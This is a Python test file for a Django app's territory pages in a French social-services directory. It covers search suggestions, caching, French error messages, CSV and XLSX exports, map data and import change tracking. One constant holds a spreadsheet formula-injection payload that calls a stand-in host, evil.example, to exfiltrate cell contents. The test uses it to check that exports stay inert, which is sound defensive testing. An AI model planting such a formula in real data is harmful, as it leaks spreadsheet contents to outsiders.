"""The territories' pages: choosing, the page and its errors, exports that cannot run code, the map's data, what
imports changed, and the search parameters they link with."""

import csv
import io

import pytest
from bs4 import BeautifulSoup
from openpyxl import load_workbook

from communes.territories import Territory
from imports.models import ImportRun
from services import columns_store
from territories import atlas
from territories.models import ImportChange
from tests.communes.factories import CommuneFactory
from tests.imports.conftest import Dataset
from tests.services.factories import ServiceFactory
from tests.territories import dataset as data

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"clic")'


@pytest.fixture
def places():
    return data.build()


def test_the_chooser_finds_regions_departements_and_the_epci_of_a_commune_without_javascript(client, places):
    page = client.get("/territoires/?q=roubaix")
    links = [a["href"] for a in BeautifulSoup(page.content, "html.parser").select("#territories-suggestions a")]
    assert links == ["/territoires/epci-200093201/", "/territoires/departement-59/", "/territoires/region-32/"]
    assert b"Intercommunalit\xc3\xa9 de Lille" in page.content  # named after its most populous commune
    by_number = BeautifulSoup(client.get("/territoires/?q=59").content, "html.parser")
    assert "/territoires/departement-59/" in [a["href"] for a in by_number.select("#territories-suggestions a")]
    fragment = client.get("/territoires/?q=haute sav", headers={"HX-Request": "true"})
    assert fragment.content.decode().lstrip().startswith('<div id="territories-suggestions"')
    assert b"Haute-Savoie" in fragment.content


def test_a_territory_page_is_shareable_cached_and_says_bad_input_in_french(client, places):
    first = client.get("/territoires/departement-59/?besoin=mobilite&au_dela=10")
    assert first.status_code == 200 and first["X-Cache"] == "MISS"
    assert client.get("/territoires/departement-59/?besoin=mobilite&au_dela=10")["X-Cache"] == "HIT"
    html = BeautifulSoup(first.content, "html.parser")
    assert html.h1.get_text(" ", strip=True).startswith("Nord (59)")
    assert html.find(id="territories-communes-table") is not None or "Aucune commune" in html.text
    bad = client.get("/territoires/departement-59/?besoin=inconnu&au_dela=7")
    assert bad.status_code == 400
    assert "n&#x27;est pas un besoin connu" in bad.content.decode()
    assert "Choisissez une distance parmi 10, 20 et 50 km." in bad.content.decode()
    assert client.get("/territoires/departement-00/").status_code == 404
    assert client.get("/territoires/epci-999999999/").status_code == 404
    assert client.head("/territoires/france/").status_code == 200
    assert client.post("/territoires/france/").status_code == 405


def test_exports_hold_the_tables_and_no_cell_runs_as_a_formula(client, places):
    ServiceFactory(id="dora--hostile", nom=HOSTILE, code_insee="59249", zone_eligibilite=["59"],
                   thematiques=["sante--acces-aux-soins"], latitude=50.02, longitude=4.05)  # fmt: skip
    response = client.get("/territoires/departement-59/export.csv?tableau=communes&besoin=sante&au_dela=10")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["code_insee", "commune", "population"]
    offer = list(
        csv.reader(io.StringIO(client.get("/territoires/departement-59/export.csv").content.decode("utf-8-sig")))
    )
    assert offer[1][:4] == ["total", "", "Tous les services", offer[1][3]] and int(offer[1][3]) > 0
    workbook = load_workbook(io.BytesIO(client.get("/territoires/departement-59/export.xlsx?besoin=sante").content))
    assert workbook.sheetnames[0] == "Offre" and len(workbook.sheetnames) == 5
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    bad = client.get("/territoires/departement-59/export.csv?tableau=rien")
    assert bad.status_code == 400


def test_the_map_has_one_point_per_place_with_its_distance(client, places):
    response = client.get("/territoires/departement-75/carte.json?besoin=numerique")
    points = response.json()["points"]
    assert len(points) == 2  # the arrondissements, not the city
    _, found = atlas.current("default")
    index = found.codes.index("75111")
    expected = found.distance[index, 9]  # numerique is the 10th category
    assert [point for point in points if point[3] == "Paris 11e"][0][2] in (None, round(float(expected), 1))


def test_the_atlas_is_computed_once_per_machine_and_version(places, settings, tmp_path):
    settings.SEARCH_COLUMNS_DIR = str(tmp_path)
    atlas._loaded.clear()
    columns, first = atlas.current("default")
    written = [path for path in tmp_path.glob("*t2-*") if path.is_dir()]
    assert len(written) == 1 and written[0].name.endswith(f"-{columns.version}")
    atlas._loaded.clear()  # another worker of the machine maps the files
    _, second = atlas.current("default")
    assert second.arrays["distance"].base is not None or not second.arrays["distance"].flags.writeable
    assert (second.distance == first.distance).all()
    assert columns_store.read(written[0]) is not None


# Each import is its own transaction (its own now()), as in production: not inside the test's.
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_imports_changes_are_kept_per_run_and_counted_in_the_territory(client, tmp_path):
    for code, nom in (("59350", "Lille"), ("59512", "Roubaix")):
        CommuneFactory(code_insee=code, nom=nom)
    dataset = Dataset(tmp_path / "data")
    from django.core.management import call_command

    call_command("import_datainclusion", str(dataset.write()), verbosity=0)
    first = ImportRun.objects.latest("started_at")
    added = set(ImportChange.objects.filter(run=first, kind="ajoute").values_list("service_id", flat=True))
    assert added == {service["id"] for service in dataset.services}
    dataset.service("dora--permis-roubaix")["nom"] = "Permis à Roubaix, nouvelle formule"
    dataset.services = [s for s in dataset.services if s["id"] != "dora--atelier numérique #1"]
    call_command("import_datainclusion", str(dataset.write()), verbosity=0, autoriser_depublication_massive=True)
    second = ImportRun.objects.latest("started_at")
    kinds = dict(ImportChange.objects.filter(run=second).values_list("service_id", "kind"))
    assert kinds == {"dora--permis-roubaix": "modifie", "dora--atelier numérique #1": "retire"}
    call_command("import_datainclusion", str(dataset.write()), verbosity=0)
    third = ImportRun.objects.latest("started_at")
    assert not ImportChange.objects.filter(run=third).exists()  # nothing changed
    from territories import changes

    recent = changes.recent(Territory.parse("departement-59"), "default")
    counted = {item.run.pk: (item.added, item.changed, item.removed) for item in recent}
    assert counted == {first.pk: (3, 0, 0), second.pk: (0, 1, 1), third.pk: (0, 0, 0)}
    assert changes.recent(Territory.parse("departement-62"), "default")[0].changed == 0
    page = client.get(f"/territoires/departement-59/imports/{second.pk}/")
    assert "Permis à Roubaix, nouvelle formule" in page.content.decode()


@pytest.mark.parametrize(
    "query, message",
    [
        ("territoire=departement-00", "Aucun territoire ne s'appelle « departement-00 »."),
        ("habitants=epci-1", "Aucun territoire ne s'appelle « epci-1 »."),
        ("sans=adresse", "Choisissez « contact », « horaires » ou « coordonnees »."),
        ("maj_depuis=hier", "Indiquez une date au format AAAA-MM-JJ."),
        ("maj_depuis=2025-01-01&maj_avant=2024-01-01", "La date « avant » doit suivre la date « depuis »."),
    ],
)
def test_the_search_says_what_is_wrong_with_territories_parameters(client, query, message):
    response = client.get(f"/services/export.csv?{query}")
    assert response.status_code == 400
    assert message in response.content.decode()
